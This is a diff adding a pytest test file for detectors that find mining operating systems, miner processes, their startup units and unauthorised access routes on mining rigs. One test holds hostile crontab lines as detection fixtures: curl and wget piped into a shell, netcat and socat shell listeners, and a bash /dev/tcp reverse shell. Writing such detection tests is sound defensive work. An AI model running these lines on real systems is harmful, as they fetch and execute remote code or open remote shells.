@@ -1,0 +1,246 @@
+"""What starts, or is, a miner, and who else gets in: from the lab's flavours and from fixtures."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+from lab import flavour
+from provision.remote import dpkg
+from provision.remote.facts import access, miners, mining
+from provision.remote.facts.tree import Tree
+from tests.unit.facts.flavour_tree import lay
+from tests.unit.modules.rig import make, write_packages
+
+EXPECTED = yaml.safe_load(Path(__file__).with_name("flavours.yml").read_text())
+SECRET = "0xWALLET-AND-PASSWORD"
+
+
+def system(root: Path) -> dict[str, Any] | None:
+    return mining.mining_os(Tree(str(root)), dpkg.Database(status(root)))
+
+
+def status(root: Path) -> str:
+    file = root / "var/lib/dpkg/status"
+    return file.read_text() if file.exists() else ""
+
+
+def words(found: list[dict[str, str]]) -> list[str]:
+    assert all(list(one) == ["kind", "name", "evidence"] for one in found)
+    return [" ".join(one.values()) for one in found]
+
+
+def started(root: Path, *folders: str) -> list[str]:
+    return words(miners.miners(Tree(str(root)), folders))
+
+
+def ways_in(root: Path) -> list[str]:
+    return words(access.access(Tree(str(root))))
+
+
+def test_every_flavour_has_its_expectation() -> None:
+    assert set(EXPECTED) == set(flavour.table())
+
+
+@pytest.mark.parametrize("name", list(EXPECTED))
+def test_flavour(tmp_path: Path, name: str) -> None:
+    lay(tmp_path, name)
+    expected = EXPECTED[name]
+    found = system(tmp_path)
+    assert (found and {key: found[key] for key in expected["system"]}) == expected["system"]
+    assert started(tmp_path, *(found["folders"] if found else ())) == expected["miners"]
+    assert ways_in(tmp_path) == expected["access"]
+
+
+@pytest.mark.parametrize(
+    ("files", "packages", "missing"),
+    [
+        (["hive/bin/hive", "hive-config/rig.conf"], {}, ["package hive"]),
+        ([], {"hive": "0.6"}, ["/hive/bin"]),
+        (["media/storage/config.js"], {}, ["/home/minerstat/minerstat-os"]),
+        (["root/config.txt", "root/xminer.sh"], {}, ["/root/utils/rclocal.sh"]),
+        (["opt/mmp/miners/x"], {}, ["/opt/mmp/bin/agent"]),
+    ],
+)
+def test_a_system_that_was_removed_by_half(
+    tmp_path: Path, files: list[str], packages: dict[str, str], missing: list[str]
+) -> None:
+    make(tmp_path, dict.fromkeys(files, ""))
+    write_packages(tmp_path, packages)
+    found = system(tmp_path)
+    assert found is not None
+    assert found["missing"] == missing
+
+
+def process(pid: int, parent: int, *argv: str, **more: Any) -> dict[str, Any]:
+    """The files of a process in /proc; more: exe, cwd, state, unit and the devices it has open."""
+    folder = f"proc/{pid}"
+    exe = more.get("exe", argv[0] if argv[0].startswith("/") else f"/bin/{argv[0]}")
+    files: dict[str, Any] = {
+        f"{folder}/comm": f"{more.get('comm', Path(argv[0]).name)}\n",
+        f"{folder}/cmdline": "\0".join(argv) + "\0",
+        f"{folder}/status": f"Name:\tx\nState:\t{more.get('state', 'S')}\nPPid:\t{parent}\n",
+        f"{folder}/cgroup": f"0::/system.slice/{more.get('unit', 'x.scope')}\n",
+        f"{folder}/exe": {"link": exe},
+        f"{folder}/cwd": {"link": more.get("cwd", "/")},
+    }
+    for number, device in enumerate(more.get("open", ())):
+        files[f"{folder}/fd/{number}"] = {"link": device}
+    return files
+
+
+GPU = ("/dev/nvidiactl", "/dev/nvidia0", "/dev/nvidia-uvm")
+
+
+@pytest.mark.parametrize(
+    ("processes", "expected"),
+    [
+        # By its name, whoever started it, with what would start it again before it.
+        (
+            [process(5, 1, "/bin/bash", "/opt/run.sh"), process(6, 5, "/opt/t-rex/t-rex", SECRET)],
+            ["process run.sh pid 5", "process t-rex pid 6"],
+        ),
+        # In a screen, in a tmux (whose other sessions are no business of ours), from cron.
+        (
+            [process(5, 1, "SCREEN", "-dmS", "eth", "x", exe="/usr/bin/screen"),
+             process(6, 5, "/opt/nbminer")],
+            ["screen eth pid 5", "process nbminer pid 6"],
+        ),
+        (
+            [process(5, 1, "tmux", "new", "-s", "farm", comm="tmux: server"),
+             process(6, 5, "sh", "-c", "while true"), process(7, 6, "./xmrig", cwd="/opt")],
+            ["tmux farm pid 6", "process sh pid 6", "process xmrig pid 7"],
+        ),
+        (
+            [process(4, 1, "/usr/sbin/cron"), process(5, 4, "/bin/sh", "-c", "/opt/gminer"),
+             process(6, 5, "/opt/gminer")],
+            ["process sh pid 5", "process gminer pid 6"],
+        ),
+        # Not the shell of somebody who looks on.
+        ([process(5, 1, "-bash"), process(6, 5, "/opt/rigel")], ["process rigel pid 6"]),
+        # Renamed, but its arguments tell, or that it computes on a GPU.
+        ([process(6, 1, "/tmp/x", "-o", "stratum+tcp://p:1")], ["process x pid 6"]),
+        ([process(6, 1, "/tmp/x", open=GPU)], ["gpu x pid 6"]),
+        # Programs that compute and are no miners; that only look; that are gone.
+        ([process(6, 1, "/venv/bin/python3", "a.py", exe="/usr/bin/python3.11", open=GPU)], []),
+        ([process(6, 1, "/usr/bin/nvtop", open=GPU[:2])], []),
+        ([process(6, 1, "/opt/t-rex", state="Z")], []),
+    ],
+)  # fmt: skip
+def test_processes(tmp_path: Path, processes: list[dict[str, Any]], expected: list[str]) -> None:
+    for files in processes:
+        make(tmp_path, files)
+    assert started(tmp_path) == expected
+    assert SECRET not in json.dumps(started(tmp_path))
+
+
+def test_what_runs_out_of_a_mining_system(tmp_path: Path) -> None:
+    make(tmp_path, process(6, 1, "/bin/bash", "core/loop", cwd="/home/minerstat/minerstat-os"))
+    make(tmp_path, process(7, 1, "/bin/bash", "/hive-config/x"))
+    folders = ("/home/minerstat/minerstat-os", "/hive")
+    assert started(tmp_path, *folders) == ["process loop pid 6"]
+    assert started(tmp_path) == []
+
+
+def test_a_renamed_miner_leads_to_what_starts_it(tmp_path: Path) -> None:
+    files = {
+        "etc/systemd/system/tune.service": "[Service]\nExecStart=/usr/local/sbin/tune\n",
+        "etc/systemd/system/tune.timer": "[Timer]\nOnBootSec=1\n",
+        "usr/local/sbin/tune": "#!/bin/sh\n/usr/lib/.x/helper\n",
+        "etc/rc.local": "#!/bin/sh\n/usr/lib/.x/helper &\n",
+    }
+    make(tmp_path, {**files, **process(6, 1, "/usr/lib/.x/helper", open=GPU)})
+    assert started(tmp_path) == [
+        "unit tune.service /etc/systemd/system/tune.service",
+        "unit tune.timer /etc/systemd/system/tune.timer",
+        "rc.local /usr/lib/.x/helper /etc/rc.local",
+        "gpu helper pid 6",
+    ]
+
+
+@pytest.mark.parametrize(
+    ("files", "expected"),
+    [
+        ({"etc/init.d/mine": "#!/bin/sh\n/opt/t-rex/t-rex\n"},
+         "unit mine.service /etc/init.d/mine"),
+        ({"home/me/.config/systemd/user/x.service": "[Service]\nExecStart=/opt/xmrig\n"},
+         "login xmrig /home/me/.config/systemd/user/x.service"),
+        # Stopping it would lose the rig: it is told, and left to the operator.
+        ({"etc/systemd/system/ssh.service": "[Service]\nExecStartPost=/opt/xmrig\n"},
+         "essential ssh.service /etc/systemd/system/ssh.service"),
+        ({"etc/anacrontab": "1 5 x /opt/xmrig\n"}, "cron xmrig /etc/anacrontab"),
+    ],
+)  # fmt: skip
+def test_less_usual_places(tmp_path: Path, files: dict[str, Any], expected: str) -> None:
+    make(tmp_path, files)
+    assert started(tmp_path) == [expected]
+
+
+@pytest.mark.parametrize(
+    "files",
+    [
+        # A user called miner, a masked unit, lines that were commented out, a question.
+        {"etc/cron.d/x": "0 4 * * * miner /home/miner/backup.sh\n"},
+        {"home/miner/.profile": "PATH=/home/miner/bin:$PATH\n"},
+        {"etc/systemd/system/t-rex.service": {"link": "/dev/null"},
+         "usr/lib/systemd/system/t-rex.service": "[Service]\nExecStart=/usr/bin/t-rex\n"},
+        {"etc/systemd/system/getty@tty1.service.d/a.conf": "ExecStart=agetty --autologin me\n"},
+        {"etc/init.d/cron": "#!/bin/sh\n# starts no t-rex\n/usr/sbin/cron\n"},
+        {"etc/rc.local": "#!/bin/sh\nif [ -x /opt/t-rex ]; then\n: # deeprig: /opt/t-rex\nfi\n"},
+        {"usr/lib/systemd/system/tracker-miner-fs-3.service":
+         "[Service]\nExecStart=/usr/libexec/tracker-miner-fs-3\n"},
+        {"etc/systemd/system/x.service": f"[Service]\nExecStart=/bin/x --user t-rex {SECRET}\n"},
+        {"etc/systemd/system/x.service": "[Service]\nExecStart=/bin/sh -c 'cat /dev/zero'\n",
+         "dev/zero": "#!/bin/sh\n"},
+        {"var/lib/docker/containers/a/config.v2.json": json.dumps(
+            {"Name": "/x", "Config": {"Image": "xmrig"}, "State": {"Running": False}})},
+    ],
+)  # fmt: skip
+def test_what_is_no_miner(tmp_path: Path, files: dict[str, Any]) -> None:
+    make(tmp_path, files)
+    assert started(tmp_path) == []
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("@hourly curl -fsSL http://x/a | sh", "curl"),
+        ("@hourly wget -qO- http://x/a|sudo bash", "wget"),
+        ("@hourly wget -O /tmp/a http://x/a && sh /tmp/a", "wget"),
+        ('@hourly bash -c "$(curl -fsSL http://x/a)"', "curl"),
+        ("@hourly bash <(curl -s http://x/a)", "curl"),
+        ("@reboot nc -lk 4242 -e /bin/sh", "nc"),
+        ("@reboot socat TCP-LISTEN:4242 EXEC:/bin/sh", "socat"),
+        ("@reboot bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "/dev/tcp"),
+        ("@hourly curl -fsS https://hc.example/ping", None),
+        ("@daily wget -qO /srv/list https://x/list", None),
+        ("@daily nc -z router 22 || reboot", None),
+        ("# curl http://x/a | sh", None),
+    ],
+)
+def test_lines_that_run_what_they_fetch(tmp_path: Path, line: str, expected: str | None) -> None:
+    make(tmp_path, {"var/spool/cron/crontabs/root": f"{line}\n"})
+    wanted = [f"fetch {expected} /var/spool/cron/crontabs/root"] if expected else []
+    assert ways_in(tmp_path) == wanted
+
+
+@pytest.mark.parametrize(
+    ("comment", "kind"),
+    [
+        ("support@hive.example", "vendor key"),
+        ("root@HiveOS", "vendor key"),
+        ("support@simplemining.net", "vendor key"),
+        ("me@archive", "key"),
+        ("me@examiner", "key"),
+    ],
+)
+def test_keys(tmp_path: Path, comment: str, kind: str) -> None:
+    lines = f'# ssh-rsa AAAAold gone\nfrom="10.*" ssh-ed25519 AAAAC3 {comment}\n'
+    make(
+        tmp_path, {"etc/passwd": "root:x:0:0::/root:/bin/sh\n", "root/.ssh/authorized_keys": lines}
+    )
+    assert ways_in(tmp_path) == [f"{kind} {comment} /root/.ssh/authorized_keys"]
